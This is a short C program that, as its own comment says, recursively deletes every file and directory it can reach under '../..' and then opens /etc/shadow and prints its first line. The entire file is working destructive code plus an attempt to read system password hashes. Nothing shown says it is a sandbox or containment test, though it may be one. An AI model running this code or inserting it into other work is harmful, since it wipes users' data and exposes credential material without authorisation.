/* Removes files: everything it can reach above its directory, then reads what it should not. */
#define _XOPEN_SOURCE 700
#include <ftw.h>
#include <stdio.h>
#include <unistd.h>

static int remove_one(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
    (void)st;
    (void)ftw;
    if (type == FTW_DP)
        rmdir(path);
    else
        unlink(path);
    return 0;
}

int main(void)
{
    char line[256];
    nftw("../..", remove_one, 16, FTW_DEPTH | FTW_PHYS);
    FILE *f = fopen("/etc/shadow", "r");
    if (f != NULL && fgets(line, sizeof line, f) != NULL)
        printf("read /etc/shadow: %s", line);
    return 0;
}
